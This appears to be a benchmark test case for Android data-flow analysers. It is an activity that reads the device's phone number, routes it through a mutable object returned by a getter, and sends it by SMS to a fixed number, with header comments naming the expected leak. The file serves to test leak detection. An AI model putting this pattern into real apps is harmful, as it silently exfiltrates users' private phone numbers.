// about       The getter hands out the profile's own address; writing to it changes both.
// leak        PHONE_NUMBER sms
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  static class Address {
    String line = "unknown";
  }

  static class Profile {
    private final Address address = new Address();

    Address getAddress() {
      // The object itself.
      return address;
    }

    String summary() {
      return "address: " + address.line;
    }
  }

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    Profile profile = new Profile();
    profile.getAddress().line = phone.getLine1Number();
    SmsManager.getDefault().sendTextMessage("+15550100", null, profile.summary(), null, null);
  }
}
